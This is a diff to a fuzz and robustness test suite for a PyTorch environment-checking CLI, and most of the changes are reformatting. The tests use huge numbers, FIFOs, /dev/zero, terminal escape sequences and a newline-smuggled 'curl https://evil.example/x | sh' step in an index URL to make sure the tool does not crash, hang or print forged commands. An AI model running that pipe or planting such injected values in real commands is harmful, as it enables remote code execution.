@@ -192,7 +192,12 @@ def _(ctx):
     return _pyproject(ctx, b"[tool.torchdoctor]\nx = " + b"[" * 100_000 + b"]" * 100_000 + b"\n")
 
 
-@case("pyproject-huge-int", "crash", exits=(1, 2, 4), xfail="exit 3: ValueError, integer string over 4300 digits")
+@case(
+    "pyproject-huge-int",
+    "crash",
+    exits=(1, 2, 4),
+    xfail="exit 3: ValueError, integer string over 4300 digits",
+)
 def _(ctx):
     """./pyproject.toml with `min-gpus = <5000 digits>`."""
     return _pyproject(ctx, f"[tool.torchdoctor]\nmin-gpus = {HUGE}\n".encode())
@@ -205,49 +210,88 @@ def _(ctx):
     return check(ctx, "--config", str(path))
 
 
-@case("driver-env-huge-int", "crash", exits=(1, 2), xfail="exit 0: the RTX 5090 error is lost; "
-      "internal-rule-error warnings in rules gpu-arch and python (ValueError, over 4300 digits)")
+@case(
+    "driver-env-huge-int",
+    "crash",
+    exits=(1, 2),
+    xfail="exit 0: the RTX 5090 error is lost; "
+    "internal-rule-error warnings in rules gpu-arch and python (ValueError, over 4300 digits)",
+)
 def _(ctx):
     """TORCHDOCTOR_DRIVER_VERSION=<5000 digits>.1: refused (exit 2) or ignored; the RTX 5090 error stays."""
     ctx.env["TORCHDOCTOR_DRIVER_VERSION"] = HUGE + ".1"
     return check(ctx)
 
 
-@case("smi-banner-huge-driver-cuda-na", "crash", exits=(1, 2),
-      xfail="exit 3: ValueError, integer string over 4300 digits")
+@case(
+    "smi-banner-huge-driver-cuda-na",
+    "crash",
+    exits=(1, 2),
+    xfail="exit 3: ValueError, integer string over 4300 digits",
+)
 def _(ctx):
     """nvidia-smi's banner says `Driver Version: <5000 digits>.1  CUDA Version: N/A`."""
     write_fake_nvidia_smi(ctx.bin_dir(), [RTX5090], driver=HUGE + ".1", cuda="N/A")
     return check(ctx)
 
 
-@case("report-huge-driver", "crash", exits=(1, 2), xfail="exit 0: internal-rule-error warnings in rules "
-      "gpu-arch and python (ValueError, over 4300 digits); the RTX 5090 error is lost")
+@case(
+    "report-huge-driver",
+    "crash",
+    exits=(1, 2),
+    xfail="exit 0: internal-rule-error warnings in rules "
+    "gpu-arch and python (ValueError, over 4300 digits); the RTX 5090 error is lost",
+)
 def _(ctx):
     """`--from` a report whose driver version is <5000 digits>.1."""
-    return ["check", "--from", ctx.write("r.json", ctx.report(**{"snapshot.nvidia.driver_version.value": HUGE + ".1"}))]
+    return [
+        "check",
+        "--from",
+        ctx.write("r.json", ctx.report(**{"snapshot.nvidia.driver_version.value": HUGE + ".1"})),
+    ]
 
 
-@case("collect-env-huge-driver", "crash", exits=(1, 2),
-      xfail="exit 3: ValueError, integer string over 4300 digits")
+@case(
+    "collect-env-huge-driver",
+    "crash",
+    exits=(1, 2),
+    xfail="exit 3: ValueError, integer string over 4300 digits",
+)
 def _(ctx):
     """`--from` collect_env text whose `Nvidia driver version:` is <5000 digits>.1."""
-    text = COLLECT_ENV.read_text().replace("Nvidia driver version: 570.124.04", f"Nvidia driver version: {HUGE}.1")
+    text = COLLECT_ENV.read_text().replace(
+        "Nvidia driver version: 570.124.04", f"Nvidia driver version: {HUGE}.1"
+    )
     return ["check", "--from", ctx.write("env.txt", text)]
 
 
-@case("report-huge-python-version", "crash", exits=(1, 2), xfail="exit 0: internal-rule-error warnings "
-      "in rules gpu-arch and python (ValueError, over 4300 digits); the RTX 5090 error is lost")
+@case(
+    "report-huge-python-version",
+    "crash",
+    exits=(1, 2),
+    xfail="exit 0: internal-rule-error warnings "
+    "in rules gpu-arch and python (ValueError, over 4300 digits); the RTX 5090 error is lost",
+)
 def _(ctx):
     """`--from` a report whose interpreter version is 3.<5000 digits>."""
-    return ["check", "--from", ctx.write("r.json", ctx.report(**{"snapshot.interpreter.version": "3." + HUGE}))]
+    return [
+        "check",
+        "--from",
+        ctx.write("r.json", ctx.report(**{"snapshot.interpreter.version": "3." + HUGE})),
+    ]
 
 
-@case("collect-env-huge-python-version", "crash", exits=(1, 2),
-      xfail="exit 0: internal-rule-error warnings (ValueError, over 4300 digits); the RTX 5090 error is lost")
+@case(
+    "collect-env-huge-python-version",
+    "crash",
+    exits=(1, 2),
+    xfail="exit 0: internal-rule-error warnings (ValueError, over 4300 digits); the RTX 5090 error is lost",
+)
 def _(ctx):
     """`--from` collect_env text whose `Python version:` is 3.<5000 digits>."""
-    text = re.sub(r"^Python version: 3\.12\.9", f"Python version: 3.{HUGE}", COLLECT_ENV.read_text(), flags=re.M)
+    text = re.sub(
+        r"^Python version: 3\.12\.9", f"Python version: 3.{HUGE}", COLLECT_ENV.read_text(), flags=re.M
+    )
     return ["check", "--from", ctx.write("env.txt", text)]
 
 
@@ -264,8 +308,12 @@ def _(ctx):
     return ["check", "--python", ctx.py, "--device", HUGE, "--smoke-timeout", "10"]
 
 
-@case("table-huge-patch", "crash", exits=(1, 2),
-      xfail="exit 3: ValueError, integer string over 4300 digits, while loading the table")
+@case(
+    "table-huge-patch",
+    "crash",
+    exits=(1, 2),
+    xfail="exit 3: ValueError, integer string over 4300 digits, while loading the table",
+)
 def _(ctx):
     """`--table` whose torch 2.6 release lists a patch 2.6.<5000 digits>."""
     table = json.loads(TABLE.read_text())
@@ -274,8 +322,12 @@ def _(ctx):
     return check(ctx, "--table", str(ctx.write("table.json", table)))
 
 
-@case("torch-spec-huge", "crash", exits=(2, 4), xfail="exit 3: ValueError, integer string over 4300 digits "
-      "(packaging's specifier)")
+@case(
+    "torch-spec-huge",
+    "crash",
+    exits=(2, 4),
+    xfail="exit 3: ValueError, integer string over 4300 digits (packaging's specifier)",
+)
 def _(ctx):
     """`--torch '>=<5000 digits>'`: a usage error or an unmet requirement."""
     return check(ctx, "--torch", ">=" + HUGE)
@@ -289,8 +341,12 @@ def _(ctx):
 
 for _value in ("nan", "inf", "1e308"):
 
-    @case(f"distributed-timeout-{_value}", "crash", exits=(2,),
-          xfail="exit 3: 'cannot convert float NaN/infinity to integer' from the subprocess timeout (selectors.py)")
+    @case(
+        f"distributed-timeout-{_value}",
+        "crash",
+        exits=(2,),
+        xfail="exit 3: 'cannot convert float NaN/infinity to integer' from the subprocess timeout (selectors.py)",
+    )
     def _(ctx, _value=_value):
         """`distributed --timeout <non-finite or huge>`: a usage error before anything starts."""
         return ["distributed", "--python", ctx.py, "--timeout", _value]
@@ -298,9 +354,13 @@ for _value in ("nan", "inf", "1e308"):
 
 for _value in ("inf", "1e308"):
 
-    @case(f"smoke-timeout-{_value}", "crash", exits=(2,),
-          xfail="exit 1: 'internal error in the runtime probe: OverflowError: cannot convert float infinity "
-          "to integer' (smoke-failed finding)")
+    @case(
+        f"smoke-timeout-{_value}",
+        "crash",
+        exits=(2,),
+        xfail="exit 1: 'internal error in the runtime probe: OverflowError: cannot convert float infinity "
+        "to integer' (smoke-failed finding)",
+    )
     def _(ctx, _value=_value):
         """`check --smoke-timeout <non-finite or huge>`: a usage error."""
         return ["check", "--python", ctx.py, "--smoke-timeout", _value]
@@ -320,29 +380,53 @@ def _fleet_dir(ctx: Ctx, **changes) -> Path:
     return folder
 
 
-@case("fleet-rich-markup", "crash", exits=(0, 1),
-      xfail="exit 3: MarkupError: closing tag '[/]' at position 10 has nothing to close")
+@case(
+    "fleet-rich-markup",
+    "crash",
+    exits=(0, 1),
+    xfail="exit 3: MarkupError: closing tag '[/]' at position 10 has nothing to close",
+)
 def _(ctx):
     """`fleet summarize` of a report whose GPU name, driver and torch version contain `[/]` and `[bold]`."""
-    folder = _fleet_dir(ctx, **{
-        "snapshot.nvidia.gpus.0.name": "GPU [/] [bold]x[/bold]",
-        "snapshot.nvidia.driver_version.value": "570.124.04[/]",
-        "snapshot.install.torch.version": "2.6.0+cu126[/]",
-    })
+    folder = _fleet_dir(
+        ctx,
+        **{
+            "snapshot.nvidia.gpus.0.name": "GPU [/] [bold]x[/bold]",
+            "snapshot.nvidia.driver_version.value": "570.124.04[/]",
+            "snapshot.install.torch.version": "2.6.0+cu126[/]",
+        },
+    )
     return ["fleet", "summarize", str(folder)]
 
 
-@case("fleet-output-is-folder", "crash", exits=(2,), xfail="exit 3: IsADirectoryError: [Errno 21] Is a directory")
+@case(
+    "fleet-output-is-folder",
+    "crash",
+    exits=(2,),
+    xfail="exit 3: IsADirectoryError: [Errno 21] Is a directory",
+)
 def _(ctx):
     """`fleet summarize -o <a folder>`: one line, exit 2."""
     (ctx.tmp / "out").mkdir()
     return ["fleet", "summarize", str(_fleet_dir(ctx)), "--json", "-o", str(ctx.tmp / "out")]
 
 
-@case("fleet-output-missing-parent", "crash", exits=(0, 1, 2), xfail="exit 3: FileNotFoundError: [Errno 2] No such file or directory")
+@case(
+    "fleet-output-missing-parent",
+    "crash",
+    exits=(0, 1, 2),
+    xfail="exit 3: FileNotFoundError: [Errno 2] No such file or directory",
+)
 def _(ctx):
     """`fleet summarize -o missing/dir/summary.md`: created, or one line and exit 2."""
-    return ["fleet", "summarize", str(_fleet_dir(ctx)), "--markdown", "-o", str(ctx.tmp / "missing" / "dir" / "s.md")]
+    return [
+        "fleet",
+        "summarize",
+        str(_fleet_dir(ctx)),
+        "--markdown",
+        "-o",
+        str(ctx.tmp / "missing" / "dir" / "s.md"),
+    ]
 
 
 @case("nvml-segfault-on-load", "crash", exits=(1,), xfail="killed by SIGSEGV (exit -11), no output at all")
@@ -373,9 +457,14 @@ def _(ctx):
     return check(ctx)
 
 
-@case("nvml-prints-on-load-json", "crash", exits=(1,), json_stdout=True,
-      xfail="the library's line 'fake libnvidia-ml: hello from the constructor' comes first on stdout: "
-      "--json output is not JSON")
+@case(
+    "nvml-prints-on-load-json",
+    "crash",
+    exits=(1,),
+    json_stdout=True,
+    xfail="the library's line 'fake libnvidia-ml: hello from the constructor' comes first on stdout: "
+    "--json output is not JSON",
+)
 def _(ctx):
     """A libnvidia-ml.so.1 that writes to fd 1 when loaded: `check --json` stdout must still be one JSON document."""
     ctx.nvml(load="print")
@@ -394,8 +483,14 @@ def _(ctx):
 # ==================================================================================================
 
 
-@case("smi-flood", "hang", exits=(0, 1), max_seconds=10, limit=15,
-      xfail="reads the whole flood: past 600 MB RSS within seconds (killed by the guard; 6 GB and 30 s on 0.1.0)")
+@case(
+    "smi-flood",
+    "hang",
+    exits=(0, 1),
+    max_seconds=10,
+    limit=15,
+    xfail="reads the whole flood: past 600 MB RSS within seconds (killed by the guard; 6 GB and 30 s on 0.1.0)",
+)
 def _(ctx):
     """An nvidia-smi that prints its banner line forever (`yes`): < 10 s and < 300 MB RSS."""
     line = "| NVIDIA-SMI 570.124.04   Driver Version: 570.124.04   CUDA Version: 12.8 |"
@@ -403,22 +498,40 @@ def _(ctx):
     return check(ctx)
 
 
-@case("from-dev-zero", "hang", exits=(2,), max_seconds=5, limit=10,
-      xfail="reads /dev/zero to the end: past 600 MB RSS (killed by the guard)")
+@case(
+    "from-dev-zero",
+    "hang",
+    exits=(2,),
+    max_seconds=5,
+    limit=10,
+    xfail="reads /dev/zero to the end: past 600 MB RSS (killed by the guard)",
+)
 def _(ctx):
     """`check --from /dev/zero`: one line, exit 2, at once."""
     return ["check", "--from", "/dev/zero"]
 
 
-@case("from-dev-urandom", "hang", exits=(2,), max_seconds=5, limit=10,
-      xfail="reads /dev/urandom to the end: past 600 MB RSS (killed by the guard)")
+@case(
+    "from-dev-urandom",
+    "hang",
+    exits=(2,),
+    max_seconds=5,
+    limit=10,
+    xfail="reads /dev/urandom to the end: past 600 MB RSS (killed by the guard)",
+)
 def _(ctx):
     """`check --from /dev/urandom`: one line, exit 2, at once."""
     return ["check", "--from", "/dev/urandom"]
 
 
-@case("from-fifo", "hang", exits=(2,), max_seconds=5, limit=6,
-      xfail="blocks forever in open() of the FIFO (killed by the guard at 6 s)")
+@case(
+    "from-fifo",
+    "hang",
+    exits=(2,),
+    max_seconds=5,
+    limit=6,
+    xfail="blocks forever in open() of the FIFO (killed by the guard at 6 s)",
+)
 def _(ctx):
     """`check --from <a FIFO nobody writes>`: one line, exit 2."""
     os.mkfifo(ctx.tmp / "pipe.json")
@@ -433,8 +546,14 @@ def _(ctx):
     return ["check", "--from", str(folder)]
 
 
-@case("fleet-folder-with-fifo", "hang", exits=(0, 1, 2), max_seconds=5, limit=6,
-      xfail="blocks forever in open() of the FIFO (killed by the guard at 6 s)")
+@case(
+    "fleet-folder-with-fifo",
+    "hang",
+    exits=(0, 1, 2),
+    max_seconds=5,
+    limit=6,
+    xfail="blocks forever in open() of the FIFO (killed by the guard at 6 s)",
+)
 def _(ctx):
     """`fleet summarize <folder>` holding reports and a FIFO named *.json."""
     folder = _fleet_dir(ctx)
@@ -454,22 +573,40 @@ def _sysroot(ctx: Ctx, relative: str, kind: str) -> list:
     return check(ctx)
 
 
-@case("sysroot-proc-version-fifo", "hang", exits=(0, 1), max_seconds=8, limit=9,
-      xfail="blocks forever opening <sysroot>/proc/version (killed by the guard at 9 s)")
+@case(
+    "sysroot-proc-version-fifo",
+    "hang",
+    exits=(0, 1),
+    max_seconds=8,
+    limit=9,
+    xfail="blocks forever opening <sysroot>/proc/version (killed by the guard at 9 s)",
+)
 def _(ctx):
     """TORCHDOCTOR_SYSROOT whose proc/version is a FIFO."""
     return _sysroot(ctx, "proc/version", "fifo")
 
 
-@case("sysroot-proc-version-dev-zero", "hang", exits=(0, 1), max_seconds=8, limit=10,
-      xfail="reads <sysroot>/proc/version -> /dev/zero without a limit: past 600 MB RSS (killed by the guard)")
+@case(
+    "sysroot-proc-version-dev-zero",
+    "hang",
+    exits=(0, 1),
+    max_seconds=8,
+    limit=10,
+    xfail="reads <sysroot>/proc/version -> /dev/zero without a limit: past 600 MB RSS (killed by the guard)",
+)
 def _(ctx):
     """TORCHDOCTOR_SYSROOT whose proc/version links to /dev/zero."""
     return _sysroot(ctx, "proc/version", "/dev/zero")
 
 
-@case("sysroot-meminfo-fifo", "hang", exits=(0, 1), max_seconds=8, limit=9,
-      xfail="blocks forever opening <sysroot>/proc/meminfo (killed by the guard at 9 s)")
+@case(
+    "sysroot-meminfo-fifo",
+    "hang",
+    exits=(0, 1),
+    max_seconds=8,
+    limit=9,
+    xfail="blocks forever opening <sysroot>/proc/meminfo (killed by the guard at 9 s)",
+)
 def _(ctx):
     """TORCHDOCTOR_SYSROOT whose proc/meminfo is a FIFO."""
     return _sysroot(ctx, "proc/meminfo", "fifo")
@@ -481,25 +618,43 @@ def _(ctx):
     return _sysroot(ctx, "proc/meminfo", "/dev/zero")
 
 
-@case("sysroot-nvidia-version-fifo", "hang", exits=(0, 1), max_seconds=8, limit=9,
-      xfail="blocks forever opening <sysroot>/sys/module/nvidia/version (killed by the guard at 9 s)")
+@case(
+    "sysroot-nvidia-version-fifo",
+    "hang",
+    exits=(0, 1),
+    max_seconds=8,
+    limit=9,
+    xfail="blocks forever opening <sysroot>/sys/module/nvidia/version (killed by the guard at 9 s)",
+)
 def _(ctx):
     """No nvidia-smi, and TORCHDOCTOR_SYSROOT whose sys/module/nvidia/version is a FIFO."""
     ctx.no_smi()
     return _sysroot(ctx, "sys/module/nvidia/version", "fifo")
 
 
-@case("sysroot-nvidia-version-dev-zero", "hang", exits=(0, 1), max_seconds=8, limit=10,
-      xfail="reads <sysroot>/sys/module/nvidia/version -> /dev/zero without a limit: past 600 MB RSS "
-      "(killed by the guard)")
+@case(
+    "sysroot-nvidia-version-dev-zero",
+    "hang",
+    exits=(0, 1),
+    max_seconds=8,
+    limit=10,
+    xfail="reads <sysroot>/sys/module/nvidia/version -> /dev/zero without a limit: past 600 MB RSS "
+    "(killed by the guard)",
+)
 def _(ctx):
     """No nvidia-smi, and TORCHDOCTOR_SYSROOT whose sys/module/nvidia/version links to /dev/zero."""
     ctx.no_smi()
     return _sysroot(ctx, "sys/module/nvidia/version", "/dev/zero")
 
 
-@case("markdown-unclosed-fences", "hang", exits=(1, 2), max_seconds=5, limit=6,
-      xfail="quadratic fence search: still running at 6 s on 2 MB (killed by the guard; 29 s on 0.1.0)")
+@case(
+    "markdown-unclosed-fences",
+    "hang",
+    exits=(1, 2),
+    max_seconds=5,
+    limit=6,
+    xfail="quadratic fence search: still running at 6 s on 2 MB (killed by the guard; 29 s on 0.1.0)",
+)
 def _(ctx):
     """A 2 MB Markdown paste: `report_schema_version` once, then ```json + `{` fences never closed."""
     chunk = "```json\n{\n"
@@ -512,21 +667,31 @@ def _(ctx):
 # ==================================================================================================
 
 
-@case("report-driver-version-list", "wrong", exits=(1, 2),
-      xfail="exit 0: the driver version list crashes rules gpu-arch and python (internal-rule-error "
-      "warnings) and the RTX 5090 error is dropped")
+@case(
+    "report-driver-version-list",
+    "wrong",
+    exits=(1, 2),
+    xfail="exit 0: the list crashes rules gpu-arch and python (internal-rule-error warnings, TypeError: "
+    "unhashable type: 'list') and the RTX 5090 error is dropped",
+)
 def _(ctx):
     """`--from` a report whose driver_version value is a list: rejected (exit 2) or still the RTX 5090 error."""
     data = ctx.report(**{"snapshot.nvidia.driver_version.value": ["570.124.04"]})
     return ["check", "--from", ctx.write("r.json", data)]
 
 
-@case("driver-env-not-a-version", "wrong", exits=(1, 2),
-      xfail="accepted: shown as 'Driver    abc · supports CUDA ≤ 12.8 (nvidia-smi)'")
+@case(
+    "driver-env-not-a-version",
+    "wrong",
+    exits=(1, 2),
+    xfail="accepted: shown as 'Driver    abc · supports CUDA ≤ 12.8 (nvidia-smi)'",
+)
 def _(ctx):
     """TORCHDOCTOR_DRIVER_VERSION=abc: refused (exit 2), never shown as a driver version from nvidia-smi."""
     ctx.env["TORCHDOCTOR_DRIVER_VERSION"] = "abc"
-    ctx.expect(lambda o, c: not re.search(r"Driver\s+abc", o.out) or _fail("'abc' shown as the driver version"))
+    ctx.expect(
+        lambda o, c: not re.search(r"Driver\s+abc", o.out) or _fail("'abc' shown as the driver version")
+    )
     return check(ctx)
 
 
@@ -537,14 +702,21 @@ def _fail(message: str):
 for _value, _why in (
     ("-1", "Driver 'none (unknown: nvidia-smi did not answer within -1s (a hung driver?))'"),
     ("0", "Driver 'none (unknown: nvidia-smi did not answer within 0s (a hung driver?))'"),
-    ("nan", "Driver 'none (unknown: internal error in the nvidia probe: ValueError: cannot convert float NaN "
-            "to integer)'"),
-    ("inf", "Driver 'none (unknown: internal error in the nvidia probe: OverflowError: cannot convert float "
-            "infinity to integer)'"),
+    (
+        "nan",
+        "Driver 'none (unknown: internal error in the nvidia probe: ValueError: cannot convert float NaN "
+        "to integer)'",
+    ),
+    (
+        "inf",
+        "Driver 'none (unknown: internal error in the nvidia probe: OverflowError: cannot convert float "
+        "infinity to integer)'",
+    ),
 ):
 
-    @case(f"nvidia-timeout-{_value}", "wrong", exits=(1, 2),
-          xfail=f"exit 0: {_why}; the RTX 5090 error is lost")
+    @case(
+        f"nvidia-timeout-{_value}", "wrong", exits=(1, 2), xfail=f"exit 0: {_why}; the RTX 5090 error is lost"
+    )
     def _(ctx, _value=_value):
         """TORCHDOCTOR_NVIDIA_TIMEOUT set to an impossible value: refused (exit 2) or ignored; the fake
         nvidia-smi's driver is still found and nothing says the driver hangs."""
@@ -558,8 +730,13 @@ for _value, _why in (
         return check(ctx)
 
 
-@case("version-py-huge-int", "wrong", exits=(1,), json_stdout=True,
-      xfail="torch-not-installed (and no gpu-arch-unsupported): the inspector fails on the 5000-digit literal")
+@case(
+    "version-py-huge-int",
+    "wrong",
+    exits=(1,),
+    json_stdout=True,
+    xfail="torch-not-installed (and no gpu-arch-unsupported): the inspector fails on the 5000-digit literal",
+)
 def _(ctx):
     """torch/version.py says `debug = <5000 digits>`: torch 2.6.0+cu126 is still found (not torch-not-installed)."""
     py = make_fake_env(ctx.tmp / "venv", torch="2.6.0+cu126", cuda="12.6")
@@ -569,28 +746,49 @@ def _(ctx):
     return ["check", "--no-smoke", "--json", "--python", str(py)]
 
 
-@case("companion-pins-local-tag", "wrong", exits=(0,), json_stdout=True,
-      xfail="exit 1: torchvision-mismatch and torchaudio-mismatch against the installed 2.7.1+cu128")
+@case(
+    "companion-pins-local-tag",
+    "wrong",
+    exits=(0,),
+    json_stdout=True,
+    xfail="exit 1: torchvision-mismatch and torchaudio-mismatch against the installed 2.7.1+cu128",
+)
 def _(ctx):
     """torchvision/torchaudio requiring `torch==2.7.1+cu128` beside torch 2.7.1+cu128: no mismatch, exit 0."""
     py = make_fake_env(ctx.tmp / "venv", torch="2.7.1+cu128", cuda="12.8")
     site = site_packages(ctx.tmp / "venv")
     for name, version in (("torchvision", "0.22.1+cu128"), ("torchaudio", "2.7.1+cu128")):
-        add_dist_info(site, name, version, ["numpy", "torch==2.7.1+cu128"], "pip",
-                      {f"{name}/__init__.py": "", f"{name}/version.py": f"__version__ = {version!r}\n"})
+        add_dist_info(
+            site,
+            name,
+            version,
+            ["numpy", "torch==2.7.1+cu128"],
+            "pip",
+            {f"{name}/__init__.py": "", f"{name}/version.py": f"__version__ = {version!r}\n"},
+        )
     expect_ids(ctx, absent={"torchvision-mismatch", "torchaudio-mismatch"})
     return ["check", "--no-smoke", "--json", "--python", str(py)]
 
 
-@case("pip-leftover-tilde-folders", "wrong", exits=(1,),
-      xfail="exit 1 (torchvision-mismatch), but nothing in the output mentions the ~orch leftovers")
+@case(
+    "pip-leftover-tilde-folders",
+    "wrong",
+    exits=(1,),
+    xfail="exit 1 (torchvision-mismatch), but nothing in the output mentions the ~orch leftovers",
+)
 def _(ctx):
     """What an interrupted `fix` left on 0.1.0: torch 2.7.1+cu128 beside torchvision 0.21.0+cu126 (which
     requires torch 2.6.0) and pip's renamed `~orch/`, `~orch-2.6.0+cu126.dist-info/`: check names the leftovers."""
     py = make_fake_env(ctx.tmp / "venv", torch="2.7.1+cu128", cuda="12.8")
     site = site_packages(ctx.tmp / "venv")
-    add_dist_info(site, "torchvision", "0.21.0+cu126", ["numpy", "torch==2.6.0"], "pip",
-                  {"torchvision/__init__.py": "", "torchvision/version.py": "__version__ = '0.21.0+cu126'\n"})
+    add_dist_info(
+        site,
+        "torchvision",
+        "0.21.0+cu126",
+        ["numpy", "torch==2.6.0"],
+        "pip",
+        {"torchvision/__init__.py": "", "torchvision/version.py": "__version__ = '0.21.0+cu126'\n"},
+    )
     (site / "~orch").mkdir()
     (site / "~orch" / "__init__.py").write_text("")
     (site / "~orch-2.6.0+cu126.dist-info").mkdir()
@@ -603,22 +801,36 @@ def _(ctx):
 # ==================================================================================================
 
 
-@case("smi-gpu-name-escapes", "inject", exits=(1,),
-      xfail="the GPU name's ESC ]0; and ESC [2J reach stdout raw")
+@case(
+    "smi-gpu-name-escapes", "inject", exits=(1,), xfail="the GPU name's ESC ]0; and ESC [2J reach stdout raw"
+)
 def _(ctx):
     """nvidia-smi names the GPU with OSC/CSI sequences, CR and BS."""
     write_fake_nvidia_smi(ctx.bin_dir(), [dict(RTX5090, name="NVIDIA GeForce RTX 5090" + ESCAPES)])
     return check(ctx, "-v")
 
 
-@case("smi-error-escapes", "inject", exits=(1,), xfail="nvidia-smi's error text reaches stdout raw (ESC ]0;, ESC [2J)")
+@case(
+    "smi-error-escapes",
+    "inject",
+    exits=(1,),
+    xfail="nvidia-smi's error text reaches stdout raw (ESC ]0;, ESC [2J)",
+)
 def _(ctx):
     """nvidia-smi fails with an error text carrying escape sequences."""
-    _script_smi(ctx.bin_dir(), f"sys.stdout.write('Failed to initialize NVML: Unknown Error{ESCAPES}\\n'); sys.exit(255)")
+    _script_smi(
+        ctx.bin_dir(),
+        f"sys.stdout.write('Failed to initialize NVML: Unknown Error{ESCAPES}\\n'); sys.exit(255)",
+    )
     return check(ctx, "-v")
 
 
-@case("nvml-gpu-name-escapes", "inject", exits=(1,), xfail="the NVML GPU name's escape sequences reach stdout raw")
+@case(
+    "nvml-gpu-name-escapes",
+    "inject",
+    exits=(1,),
+    xfail="the NVML GPU name's escape sequences reach stdout raw",
+)
 def _(ctx):
     """NVML names the GPU with escape sequences."""
     ctx.nvml(name="NVIDIA GeForce RTX 5090" + ESCAPES)
@@ -633,19 +845,28 @@ def _(ctx):
     return check(ctx, "-v")
 
 
-@case("from-report-escapes", "inject", exits=(1, 2), xfail="GPU name, path and host from the report reach stdout raw")
+@case(
+    "from-report-escapes",
+    "inject",
+    exits=(1, 2),
+    xfail="GPU name, path and host from the report reach stdout raw",
+)
 def _(ctx):
     """`--from` a report whose GPU name, interpreter path, nvidia detail and host name carry escape sequences."""
-    data = ctx.report(**{
-        "snapshot.nvidia.gpus.0.name": "NVIDIA GeForce RTX 5090" + ESCAPES + "\rforged line",
-        "snapshot.interpreter.path": "/opt/py" + ESCAPES + "/bin/python",
-        "snapshot.nvidia.detail": "detail" + ESCAPES,
-        "snapshot.environment.hostname": "host" + ESCAPES,
-    })
+    data = ctx.report(
+        **{
+            "snapshot.nvidia.gpus.0.name": "NVIDIA GeForce RTX 5090" + ESCAPES + "\rforged line",
+            "snapshot.interpreter.path": "/opt/py" + ESCAPES + "/bin/python",
+            "snapshot.nvidia.detail": "detail" + ESCAPES,
+            "snapshot.environment.hostname": "host" + ESCAPES,
+        }
+    )
     return ["check", "-v", "--from", ctx.write("r.json", data)]
 
 
-@case("from-collect-env-escapes", "inject", exits=(0, 1, 2), xfail="the GPU model and OS text reach stdout raw")
+@case(
+    "from-collect-env-escapes", "inject", exits=(0, 1, 2), xfail="the GPU model and OS text reach stdout raw"
+)
 def _(ctx):
     """`--from` collect_env text whose GPU model and OS lines carry escape sequences."""
     text = COLLECT_ENV.read_text().replace("NVIDIA GeForce RTX 5090 D", "NVIDIA GeForce RTX 5090 D" + ESCAPES)
@@ -660,14 +881,24 @@ def _odd_python(ctx: Ctx, name: str) -> Path:
     return link
 
 
-@case("python-path-escapes", "inject", exits=(1, 2), xfail="the --python path's escape sequences reach stdout raw")
+@case(
+    "python-path-escapes",
+    "inject",
+    exits=(1, 2),
+    xfail="the --python path's escape sequences reach stdout raw",
+)
 def _(ctx):
     """`--python` names an interpreter whose file name carries escape sequences."""
     return ["check", "--no-smoke", "--python", str(_odd_python(ctx, "py" + ESC_TITLE + ESC_CLEAR + "thon"))]
 
 
-@case("python-path-tab", "inject", exits=(1, 2), xfail="the tab in the path is printed as spaces: the "
-      "printed path and the printed pip command name another file")
+@case(
+    "python-path-tab",
+    "inject",
+    exits=(1, 2),
+    xfail="the tab in the path is printed as spaces: the "
+    "printed path and the printed pip command name another file",
+)
 def _(ctx):
     """`--python` path with a TAB: printed so that it names the same file (escaped or quoted), never as spaces."""
     link = _odd_python(ctx, "py\tthon")
@@ -675,27 +906,53 @@ def _(ctx):
     return ["check", "--no-smoke", "--python", str(link)]
 
 
-@case("index-url-base-escapes", "inject", exits=(1, 2), xfail="the URL's escape sequences reach stdout raw in the plan")
+@case(
+    "index-url-base-escapes",
+    "inject",
+    exits=(1, 2),
+    xfail="the URL's escape sequences reach stdout raw in the plan",
+)
 def _(ctx):
     """`fix --dry-run --index-url-base` with escape sequences: refused (exit 2) or shown escaped."""
-    return ["fix", "--dry-run", "--no-smoke", "--python", ctx.py, "--index-url-base",
-            "https://mirror.example/whl" + ESC_TITLE + ESC_CLEAR]
+    return [
+        "fix",
+        "--dry-run",
+        "--no-smoke",
+        "--python",
+        ctx.py,
+        "--index-url-base",
+        "https://mirror.example/whl" + ESC_TITLE + ESC_CLEAR,
+    ]
 
 
-@case("index-url-base-newline", "inject", exits=(1, 2),
-      xfail="the newline splits the command: a line 'step 2/2: curl https://evil.example/x | sh' is printed")
+@case(
+    "index-url-base-newline",
+    "inject",
+    exits=(1, 2),
+    xfail="the newline splits the command: a line 'step 2/2: curl https://evil.example/x | sh' is printed",
+)
 def _(ctx):
     """`fix --dry-run --index-url-base` with a newline and a fake step: no printed line starts with it."""
+
     def verify(outcome, _ctx):
         for line in outcome.text.splitlines():
             assert not re.match(r"\s*(step 2/2: )?curl ", line), f"forged line printed: {line!r}"
 
     ctx.expect(verify)
-    return ["fix", "--dry-run", "--no-smoke", "--python", ctx.py, "--index-url-base",
-            "https://mirror.example/whl\nstep 2/2: curl https://evil.example/x | sh\n"]
+    return [
+        "fix",
+        "--dry-run",
+        "--no-smoke",
+        "--python",
+        ctx.py,
+        "--index-url-base",
+        "https://mirror.example/whl\nstep 2/2: curl https://evil.example/x | sh\n",
+    ]
 
 
-@case("table-version-escapes", "inject", exits=(1, 2), xfail="table_version's escape sequences reach stdout raw")
+@case(
+    "table-version-escapes", "inject", exits=(1, 2), xfail="table_version's escape sequences reach stdout raw"
+)
 def _(ctx):
     """`--table` whose table_version carries escape sequences: refused (exit 2) or shown escaped."""
     table = json.loads(TABLE.read_text())
@@ -708,12 +965,15 @@ for _fmt in ("text", "markdown"):
     @case(f"fleet-escapes-{_fmt}", "inject", exits=(0, 1), xfail="report values reach the fleet summary raw")
     def _(ctx, _fmt=_fmt):
         """`fleet summarize` of reports whose GPU name, driver, torch build and host carry escape sequences."""
-        folder = _fleet_dir(ctx, **{
-            "snapshot.nvidia.gpus.0.name": "NVIDIA GeForce RTX 5090" + ESCAPES,
-            "snapshot.nvidia.driver_version.value": "570.124.04" + ESCAPES,
-            "snapshot.install.torch.version": "2.6.0+cu126" + ESCAPES,
-            "snapshot.environment.hostname": "node" + ESCAPES,
-        })
+        folder = _fleet_dir(
+            ctx,
+            **{
+                "snapshot.nvidia.gpus.0.name": "NVIDIA GeForce RTX 5090" + ESCAPES,
+                "snapshot.nvidia.driver_version.value": "570.124.04" + ESCAPES,
+                "snapshot.install.torch.version": "2.6.0+cu126" + ESCAPES,
+                "snapshot.environment.hostname": "node" + ESCAPES,
+            },
+        )
         return ["fleet", "summarize", str(folder)] + (["--markdown"] if _fmt == "markdown" else [])
 
 
@@ -734,8 +994,9 @@ def _(ctx):
 @case("markdown-from-report-html", "inject", exits=(1, 2))
 def _(ctx):
